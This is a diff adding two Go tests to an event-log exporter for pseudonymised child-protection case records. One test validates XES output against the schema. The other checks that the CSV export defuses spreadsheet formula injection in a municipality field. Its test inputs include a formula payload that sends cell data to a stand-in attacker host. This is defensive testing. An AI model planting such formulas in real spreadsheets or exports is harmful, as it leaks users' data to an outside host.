@@ -14,6 +14,7 @@ import (
 	"schakel"
 	"schakel/internal/chain"
 	"schakel/internal/workdays"
+	"schakel/internal/xmllint"
 )
 
 var loc = workdays.Location()
@@ -288,5 +289,82 @@ func TestEventLogs(t *testing.T) {
 	}
 	if len(log.Traces) != 2 || len(log.Traces[0].Events) != 2 || len(log.Traces[1].Events) != 1 {
 		t.Fatalf("xes traces %+v", log)
+	}
+}
+
+// The XES log validates against the IEEE 1849-2016 schema, also with
+// awkward text in its one free-text attribute, and with no events at all.
+func TestXESValidatesAgainstSchema(t *testing.T) {
+	schema := xmllint.RepoFile(t, xmllint.XESSchema)
+	secret := []byte("secret")
+	awkward := []string{`Den "Haag" & <Co>`, "]]> <!-- -->", "tab\there\nnew line", "nul\x00 and \x01 control", "bad utf-8 \xff\xfe", "emoji 👩‍👧 and RTL \u202e"}
+	rows := []chain.LogRow{
+		{Case: chain.Pseudonym(secret, 1), Activity: chain.ReportReceived, At: day(2), OrganisationKind: "veilig_thuis", Organisation: 3, Region: 1, Municipality: "Rotterdam"},
+		{Case: chain.Pseudonym(secret, 1), Activity: chain.CourtOrder, At: day(9), Measure: chain.Supervision, EndsAt: ptr(day(9).AddDate(1, 0, 0))},
+		{Case: chain.Pseudonym(secret, 2), Activity: chain.Rated, At: day(3), Color: "red"},
+	}
+	for i, m := range awkward {
+		rows = append(rows, chain.LogRow{Case: chain.Pseudonym(secret, int64(10+i)), Activity: chain.ReportReceived, At: day(4), Municipality: m})
+	}
+	for _, tc := range []struct {
+		name string
+		rows []chain.LogRow
+	}{{"events", rows}, {"empty", nil}} {
+		t.Run(tc.name, func(t *testing.T) {
+			var x bytes.Buffer
+			w, err := chain.NewXESLog(&x)
+			if err != nil {
+				t.Fatal(err)
+			}
+			for _, r := range tc.rows {
+				if err := w.Write(r); err != nil {
+					t.Fatal(err)
+				}
+			}
+			if err := w.Close(); err != nil {
+				t.Fatal(err)
+			}
+			if err := xmllint.Check(t, schema, x.Bytes()); err != nil {
+				t.Fatalf("eventlog.xes fails the XES schema:\n%v\n%s", err, x.String())
+			}
+		})
+	}
+	// The validator itself rejects what the issue found: a namespace on the
+	// root and a version that is not a decimal.
+	for _, bad := range []string{
+		`<log xes.version="1849.2016" xmlns="http://www.xes-standard.org/"></log>`,
+		`<log xes.version="1849-2016"></log>`,
+	} {
+		if err := xmllint.Check(t, schema, []byte(bad)); err == nil {
+			t.Errorf("xmllint accepted %s", bad)
+		}
+	}
+}
+
+// The municipality is typed by people: in the CSV log it never starts a
+// spreadsheet formula, while the id columns stay numbers.
+func TestCSVLogNeutralisesFormulas(t *testing.T) {
+	for _, m := range []string{`=HYPERLINK("http://evil.example/?x="&A1,"klik")`, "@SUM(1+1)", "+31612345678", "-1+2", "\t=1", "\r=1"} {
+		t.Run(m, func(t *testing.T) {
+			var c bytes.Buffer
+			w, err := chain.NewCSVLog(&c)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if err := w.Write(chain.LogRow{Case: "c1", Activity: chain.ReportReceived, At: day(2), Organisation: 3, Region: 1, Municipality: m}); err != nil {
+				t.Fatal(err)
+			}
+			if err := w.Close(); err != nil {
+				t.Fatal(err)
+			}
+			recs, err := csv.NewReader(&c).ReadAll()
+			if err != nil || len(recs) != 2 {
+				t.Fatalf("csv %q %v", recs, err)
+			}
+			row := recs[1]
+			if row[6] != "'"+m || row[4] != "3" || row[5] != "1" {
+				t.Errorf("row %q: municipality %q, ids %q %q", row, row[6], row[4], row[5])
+			}
+		})
 	}
 }
